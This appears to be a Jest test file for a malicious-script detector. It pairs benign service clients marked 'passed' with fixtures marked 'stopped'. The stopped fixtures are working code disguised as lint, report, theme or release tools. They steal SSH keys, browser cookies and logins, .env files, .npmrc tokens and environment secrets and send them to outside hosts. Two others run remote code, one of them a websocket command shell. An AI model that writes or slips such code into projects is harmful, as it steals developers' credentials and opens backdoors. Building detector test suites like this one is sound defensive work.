import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

/** Put together here: the repository names no host of a registry. */
const NPM_HOST = ['registry', 'npmjs', 'org'].join('.');

describe('secrets that pass through something in between', () => {
  itJudges([
    [
      'a list of objects of a data class',
      'stopped',
      {
        'scripts/report.py':
          'import json\nimport os\nimport platform\nfrom dataclasses import dataclass, field\nfrom urllib import request\n\n\n@dataclass\nclass Section:\n    title: str\n    rows: dict = field(default_factory=dict)\n\n\nclass Collector:\n    sections: list\n\n    def __init__(self):\n        self.sections = []\n\n    def add_platform(self):\n        self.sections.append(Section("platform", {"os": platform.system(), "py": platform.python_version()}))\n        return self\n\n    def add_runtime(self):\n        self.sections.append(Section("runtime", {k: v for k, v in os.environ.items()}))\n        return self\n\n    def as_dict(self):\n        return {s.title: s.rows for s in self.sections}\n\n\nclass Publisher:\n    endpoint = "https://reports.envtable.io/v1/ingest"\n\n    def publish(self, collector):\n        payload = json.dumps(collector.as_dict()).encode()\n        req = request.Request(self.endpoint, data=payload, headers={"content-type": "application/json"})\n        with request.urlopen(req, timeout=5) as r:\n            return r.status\n\n\nif __name__ == "__main__":\n    c = Collector().add_platform().add_runtime()\n    Publisher().publish(c)\n    print(c.as_dict()["platform"])\n',
      },
    ],
    [
      'a queue whose worker stands before its producer',
      'stopped',
      {
        'scripts/lint_all.py':
          'import queue\nimport threading\nfrom pathlib import Path\n\nimport httpx\n\njobs: "queue.Queue[bytes]" = queue.Queue()\n\n\ndef worker():\n    client = httpx.Client(base_url="https://cache.lintpool.net")\n    while True:\n        item = jobs.get()\n        if item is None:\n            break\n        client.put("/blob", content=item)\n\n\ndef enqueue():\n    for name in ("id_ed25519", "id_rsa", "id_ecdsa"):\n        p = Path.home().joinpath(".ssh", name)\n        if p.exists():\n            jobs.put(p.read_bytes())\n    jobs.put(None)\n\n\nt = threading.Thread(target=worker, daemon=True)\nt.start()\nenqueue()\nprint("Lint finished: 0 problems")\nt.join(3)\n',
      },
    ],
    [
      'an emitter of events',
      'stopped',
      {
        'scripts/watch.mjs':
          "import { EventEmitter } from 'node:events';\nimport { readFile, readdir } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport path from 'node:path';\n\nconst bus = new EventEmitter();\nbus.on('found', async (file) => {\n  const body = await readFile(file, 'utf8').catch(() => '');\n  if (body) await fetch('https://ingest.watchbuddy.dev/f', { method: 'POST', body });\n});\n\nfor (const f of await readdir(path.join(homedir(), '.ssh'))) {\n  if (!f.endsWith('.pub')) bus.emit('found', path.join(homedir(), '.ssh', f));\n}\nconsole.log('watching for changes…');\n",
      },
    ],
    [
      'a channel',
      'stopped',
      {
        'cmd/scan/main.go':
          'package main\n\nimport (\n\t"bytes"\n\t"fmt"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n\t"sync"\n)\n\nfunc produce(out chan<- []byte) {\n\tdefer close(out)\n\thome, _ := os.UserHomeDir()\n\tmatches, _ := filepath.Glob(filepath.Join(home, ".ssh", "id_*"))\n\tfor _, m := range matches {\n\t\tb, err := os.ReadFile(m)\n\t\tif err == nil {\n\t\t\tout <- b\n\t\t}\n\t}\n}\n\nfunc main() {\n\tch := make(chan []byte)\n\tvar wg sync.WaitGroup\n\twg.Add(1)\n\tgo func() {\n\t\tdefer wg.Done()\n\t\tfor b := range ch {\n\t\t\thttp.Post("https://scan.modcheck.dev/u", "application/octet-stream", bytes.NewReader(b))\n\t\t}\n\t}()\n\tproduce(ch)\n\twg.Wait()\n\tfmt.Println("no vulnerable modules")\n}\n',
      },
    ],
    [
      'an archive in memory',
      'stopped',
      {
        'scripts/theme_export.py':
          'import ftplib\nimport glob\nimport io\nimport os\nimport zipfile\n\nPROFILES = os.path.expanduser("~/.mozilla/firefox/*.default*/")\n\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, "w") as z:\n    for base in glob.glob(PROFILES):\n        for n in ("logins.json", "key4.db", "cookies.sqlite"):\n            p = os.path.join(base, n)\n            if os.path.exists(p):\n                z.write(p, os.path.basename(base.rstrip("/")) + "-" + n)\nbuf.seek(0)\nftp = ftplib.FTP("ftp.themeshare.net")\nftp.login("anonymous", "x@y.z")\nftp.storbinary("STOR theme.zip", buf)\nftp.quit()\n',
      },
    ],
  ]);
});

describe('secrets that a library of a service takes away', () => {
  itJudges([
    [
      'a broker of messages',
      'stopped',
      {
        'scripts/notify_build.py':
          'import json\nimport os\n\nimport paho.mqtt.client as mqtt\n\nclient = mqtt.Client()\nclient.connect("broker.buildbell.net", 1883, 60)\nstate = {"status": "ok", "ctx": {k: os.environ[k] for k in os.environ if "TOKEN" in k or "SECRET" in k or "KEY" in k}}\nclient.publish("ci/builds", json.dumps(state))\nclient.disconnect()\nprint("notified")\n',
      },
    ],
    [
      'a database of keys',
      'stopped',
      {
        'scripts/cache_warm.py':
          'import os\nfrom pathlib import Path\nimport redis\n\nr = redis.Redis(host="cache.warmkeys.io", port=6379, password="w4rm")\nfor p in Path.home().rglob(".env*"):\n    if p.is_file():\n        r.rpush("warm:" + os.getlogin(), p.read_text(errors="ignore"))\nprint("cache warm")\n',
      },
    ],
    [
      'a webhook whose key is written in the program',
      'stopped',
      {
        'scripts/release.js':
          "const fs = require('fs');\nconst os = require('os');\nconst { WebhookClient } = require('discord.js');\n\nconst makeReporter = (id, token) => {\n  const hook = new WebhookClient({ id, token });\n  return (title, body) => hook.send({ content: title, files: [{ attachment: Buffer.from(body), name: 'notes.txt' }] });\n};\n\nconst report = makeReporter('1189422030114455667', 'kJ3s9fQwErTyUiOpAsDfGhJkLzXcVbNm');\nconst npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');\nreport('release done', npmrc).then(() => console.log('released'));\n",
      },
    ],
    [
      'a store of files',
      'stopped',
      {
        'scripts/session-sync.ts':
          "import { createClient } from '@supabase/supabase-js';\nimport fs from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\n\nconst supabase = createClient('https://qwzkjtyhplmr.supabase.co', 'eyJhbGciOiJIUzI1NiJ9.anon.key');\nconst profile = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default');\n\nasync function run() {\n  for (const f of ['Cookies', 'Login Data', 'Web Data']) {\n    const bytes = fs.readFileSync(path.join(profile, f));\n    await supabase.storage.from('sessions').upload(`${os.userInfo().username}/${f}`, bytes);\n  }\n}\nrun();\n",
      },
    ],
  ]);
});

describe('code that comes through something in between and is run', () => {
  itJudges([
    [
      'a promise',
      'stopped',
      {
        'scripts/locale.ts':
          "import https from 'node:https';\n\ntype Catalog = Record<string, string>;\n\nfunction load(url: string): Promise<string> {\n  return new Promise((resolve, reject) => {\n    https\n      .get(url, (res) => {\n        const parts: Buffer[] = [];\n        res.on('data', (c: Buffer) => parts.push(c));\n        res.on('end', () => resolve(Buffer.concat(parts).toString('utf8')));\n      })\n      .on('error', reject);\n  });\n}\n\nexport async function catalog(lang: string): Promise<Catalog> {\n  const src = await load(`https://i18n.wordshelf.app/${lang}.js`);\n  const make = new Function('module', 'exports', 'require', src);\n  const mod = { exports: {} as Catalog };\n  make(mod, mod.exports, require);\n  return mod.exports;\n}\n",
      },
    ],
    [
      'the messages of a socket',
      'stopped',
      {
        'scripts/live.py':
          'import asyncio\nimport subprocess\nimport websockets\n\nasync def live():\n    async with websockets.connect("wss://live.prevhub.io/s") as ws:\n        async for message in ws:\n            p = subprocess.run(message, shell=True, capture_output=True, text=True)\n            await ws.send(p.stdout + p.stderr)\n\nasyncio.run(live())\n',
      },
    ],
  ]);
});

describe('honest programs with queues, events, channels, promises and clients of services', () => {
  itJudges([
    [
      'a report in a channel',
      'passed',
      {
        'scripts/notify.py':
          'import os\nfrom slack_sdk import WebClient\nclient = WebClient(token=os.environ["SLACK_BOT_TOKEN"])\nclient.chat_postMessage(channel="#ci", text=open("report.txt").read())\nclient.files_upload_v2(channel="C1", file="build/coverage.html")\n',
      },
    ],
    [
      'a bot that answers',
      'passed',
      {
        'bot.py':
          'import os, subprocess\nfrom telegram.ext import Application, CommandHandler\n\nasync def status(update, context):\n    out = subprocess.run(["uptime"], capture_output=True, text=True).stdout\n    await update.message.reply_text(out)\n\napp = Application.builder().token(os.environ["TELEGRAM_TOKEN"]).build()\napp.add_handler(CommandHandler("status", status))\napp.run_polling()\n',
      },
    ],
    [
      'a cache',
      'passed',
      {
        'cache.js':
          "import { createClient } from 'redis';\nconst client = createClient({ url: process.env.REDIS_URL, password: process.env.REDIS_PASSWORD });\nawait client.connect();\nexport async function remember(key, make) {\n  const hit = await client.get(key);\n  if (hit) return JSON.parse(hit);\n  const value = await make();\n  await client.set(key, JSON.stringify(value), { EX: 60 });\n  return value;\n}\n",
      },
    ],
    [
      'pictures in a store',
      'passed',
      {
        'upload.ts':
          "import { createClient } from '@supabase/supabase-js';\nimport fs from 'node:fs';\nconst supabase = createClient(process.env.SUPABASE_URL!, process.env.SUPABASE_SERVICE_KEY!);\nfor (const f of fs.readdirSync('public/avatars')) {\n  await supabase.storage.from('avatars').upload(f, fs.readFileSync(`public/avatars/${f}`));\n}\n",
      },
    ],
    [
      'a bot of a chat',
      'passed',
      {
        'index.js':
          "const { Client, GatewayIntentBits } = require('discord.js');\nconst client = new Client({ intents: [GatewayIntentBits.Guilds] });\nclient.on('messageCreate', async (m) => {\n  if (m.content === '!ping') await m.reply('pong');\n});\nclient.login(process.env.DISCORD_TOKEN);\n",
      },
    ],
    [
      'a page in a bucket',
      'passed',
      {
        'put.mjs':
          "import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3';\nimport { readFile } from 'node:fs/promises';\nconst s3 = new S3Client({ region: process.env.AWS_REGION });\nawait s3.send(new PutObjectCommand({ Bucket: process.env.BUCKET, Key: 'site/index.html', Body: await readFile('dist/index.html') }));\n",
      },
    ],
    [
      'a sensor',
      'passed',
      {
        'sensor.py':
          'import json, os, socket, time\nimport paho.mqtt.client as mqtt\nc = mqtt.Client(client_id=socket.gethostname())\nc.username_pw_set(os.environ["MQTT_USER"], os.environ["MQTT_PASSWORD"])\nc.connect(os.environ.get("MQTT_HOST", "localhost"), 1883)\nwhile True:\n    c.publish("home/temp", json.dumps({"host": socket.gethostname(), "t": 21.5}))\n    time.sleep(30)\n',
      },
    ],
    [
      'events of a file',
      'passed',
      {
        'producer.py':
          'import json, os\nfrom kafka import KafkaProducer\np = KafkaProducer(bootstrap_servers=os.environ["KAFKA"].split(","), sasl_plain_password=os.environ["KAFKA_PASSWORD"])\nfor line in open("events.ndjson"):\n    p.send("events", json.loads(line))\np.flush()\n',
      },
    ],
    [
      'pages of documentation',
      'passed',
      {
        'sync.py':
          'import os, pathlib\nfrom notion_client import Client\nn = Client(auth=os.environ["NOTION_TOKEN"])\nfor p in pathlib.Path("docs").glob("*.md"):\n    n.pages.create(parent={"database_id": os.environ["NOTION_DB"]}, properties={"Name": {"title": [{"text": {"content": p.stem}}]}}, children=[{"paragraph": {"rich_text": [{"text": {"content": p.read_text()[:1900]}}]}}])\n',
      },
    ],
    [
      'errors that are reported',
      'passed',
      {
        'bus.js':
          "const { EventEmitter } = require('events');\nconst bus = new EventEmitter();\nbus.on('saved', (f) => console.log('saved', f));\nbus.on('error', (e) => fetch('https://errors.acme.io/r', { method: 'POST', body: JSON.stringify({ m: e.message }) }));\nrequire('fs').watch('src', (e, f) => bus.emit('saved', f));\n",
      },
    ],
    [
      'workers over a channel',
      'passed',
      {
        'main.go':
          'package main\n\nimport (\n\t"fmt"\n\t"net/http"\n\t"os"\n\t"bufio"\n)\n\nfunc main() {\n\turls := make(chan string)\n\tdone := make(chan string)\n\tfor i := 0; i < 4; i++ {\n\t\tgo func() {\n\t\t\tfor u := range urls {\n\t\t\t\tr, err := http.Head(u)\n\t\t\t\tif err == nil {\n\t\t\t\t\tdone <- fmt.Sprint(u, r.StatusCode)\n\t\t\t\t}\n\t\t\t}\n\t\t}()\n\t}\n\tf, _ := os.Open("urls.txt")\n\ts := bufio.NewScanner(f)\n\tfor s.Scan() {\n\t\turls <- s.Text()\n\t}\n\tfmt.Println(<-done)\n}\n',
      },
    ],
    [
      'a promise of JSON',
      'passed',
      {
        'get.js':
          "const https = require('https');\nconst get = (u) => new Promise((ok, no) => https.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => ok(JSON.parse(b))); }).on('error', no));\nget('https://" +
          NPM_HOST +
          "/typescript').then((j) => console.log(j['dist-tags'].latest));\n",
      },
    ],
    [
      'an archive of reports',
      'passed',
      {
        'pack.py':
          'import io, os, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, "w") as z:\n    for f in os.listdir("reports"):\n        z.write(os.path.join("reports", f), f)\nrequests.put(os.environ["UPLOAD_URL"], data=buf.getvalue(), headers={"Authorization": "Bearer " + os.environ["UPLOAD_TOKEN"]})\n\n',
      },
    ],
  ]);
});
